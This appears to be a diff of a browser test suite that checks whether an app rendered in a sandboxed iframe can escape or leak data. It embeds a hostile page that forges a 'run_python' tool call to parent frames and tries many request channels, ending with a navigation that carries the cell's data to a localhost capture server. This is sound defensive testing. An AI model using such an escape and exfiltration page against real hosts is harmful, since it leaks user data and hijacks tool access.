@@ -3,7 +3,7 @@
 import { createSocket } from 'node:dgram'
 import { mkdtempSync, writeFileSync } from 'node:fs'
 import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
+import { type AddressInfo, createServer as createTcpServer } from 'node:net'
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import type { Page } from 'playwright-core'
@@ -165,32 +165,32 @@ it.for(HOSTS)('a page reaches no other machine over WebRTC in a host %s', async 
 })
 
 /** Tries every other way out of the frame, and says when it is through. */
-const escape = (address: string): string => `<!doctype html><html><body><p id="out"></p>
+const escape = (to: (way: string) => string): string => `<!doctype html><html><body><p id="out"></p>
 <script>
   const ask = { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'run_python', arguments: {} } }
   for (const other of [parent, parent.parent, top]) other.postMessage(ask, '*')
   const tries = {
-    fetch: () => fetch('${address}/fetch', { mode: 'no-cors' }),
-    beacon: () => navigator.sendBeacon('${address}/beacon', 'x'),
-    socket: () => new WebSocket('${address.replace('http', 'ws')}/socket'),
-    image: () => (new Image().src = '${address}/image'),
-    script: () => (document.body.append(Object.assign(document.createElement('script'), { src: '${address}/script' }))),
-    style: () => (document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${address}/style' }))),
-    frame: () => (document.body.append(Object.assign(document.createElement('iframe'), { src: '${address}/frame' }))),
-    popup: () => window.open('${address}/popup'),
-    form: () => { const form = document.createElement('form'); form.action = '${address}/form'; document.body.append(form); form.submit() },
+    fetch: () => fetch('${to('fetch')}', { mode: 'no-cors' }),
+    beacon: () => navigator.sendBeacon('${to('beacon')}', 'x'),
+    socket: () => new WebSocket('${to('socket').replace('http', 'ws')}'),
+    image: () => (new Image().src = '${to('image')}'),
+    script: () => (document.body.append(Object.assign(document.createElement('script'), { src: '${to('script')}' }))),
+    style: () => (document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${to('style')}' }))),
+    frame: () => (document.body.append(Object.assign(document.createElement('iframe'), { src: '${to('frame')}' }))),
+    popup: () => window.open('${to('popup')}'),
+    form: () => { const form = document.createElement('form'); form.action = '${to('form')}'; document.body.append(form); form.submit() },
     above: () => (parent.document.title = 'mine'),
-    top: () => (top.location = '${address}/top'),
+    top: () => (top.location = '${to('top')}'),
   }
   for (const one of Object.values(tries)) try { Promise.resolve(one()).catch(() => {}) } catch {}
   document.getElementById('out').textContent = 'rows ' + data.length
-  setTimeout(() => (location.href = '${address}/location?' + data.join()), 1500)
+  setTimeout(() => (location.href = '${to('location')}?' + data.join()), 1500)
 </script></body></html>`
 
 it.for(HOSTS)('a page of a cell sees its data in a host %s, and reaches nothing else', async ([, policy], context) => {
   const { page, show, hits, address } = await openHost(context, policy)
   const bridge = await withApps()
-  await bridge.run(`print(runtime.show_app(${JSON.stringify(escape(address))}, ["a", "b", "c"]))`)
+  await bridge.run(`print(runtime.show_app(${JSON.stringify(escape((way) => `${address}/${way}`))}, ["a", "b", "c"]))`)
   const args = { artifact: 'app-1.html' }
   const result = await bridge.client.callTool({ name: 'show_app', arguments: args })
   await show(await viewerOf(bridge), args, result)
@@ -209,3 +209,34 @@ it.for(HOSTS)('a page of a cell sees its data in a host %s, and reaches nothing 
   await expect.poll(() => hits.some((hit) => hit.startsWith('/top') || hit.startsWith('/location'))).toBe(true)
   expect(hits.length).toBeGreaterThan(1)
 })
+
+/** Accepts connections and answers none: returns the names of hosts in their first bytes, as TLS has them. */
+async function namedConnections(): Promise<{ port: number; names: Set<string> }> {
+  const names = new Set<string>()
+  const server = createTcpServer((socket) => {
+    socket.on('error', () => {})
+    socket.once('data', (data) => names.add(/[\w-]+\.localhost/.exec(data.toString('latin1'))?.[0] ?? 'no name'))
+  }).listen(0, '127.0.0.1')
+  onTestFinished(() => void server.close())
+  await new Promise((resolve) => server.once('listening', resolve))
+  return { port: (server.address() as AddressInfo).port, names }
+}
+
+it.for(HOSTS)(
+  'a page opens no connection in a host %s, except to the hosts of addresses that a frame navigates to',
+  async ([, policy], context) => {
+    const { page, show } = await openHost(context, policy)
+    const { port, names } = await namedConnections()
+    const bridge = await withApps()
+    const html = escape((way) => `https://${way}.localhost:${port}/`)
+    await bridge.run(`print(runtime.show_app(${JSON.stringify(html)}, ["a", "b", "c"]))`)
+    const args = { artifact: 'app-1.html' }
+    await show(await viewerOf(bridge), args, await bridge.client.callTool({ name: 'show_app', arguments: args }))
+    await page.frameLocator('iframe').frameLocator('iframe').getByText('rows 3').waitFor()
+    // docs/security.md says that this is not held: Chromium connects before it refuses the navigation.
+    const navigated = ['frame.localhost', 'location.localhost']
+    await expect.poll(() => [...names]).toEqual(expect.arrayContaining(navigated))
+    await page.waitForTimeout(3_000)
+    expect([...names].toSorted()).toEqual(navigated)
+  },
+)
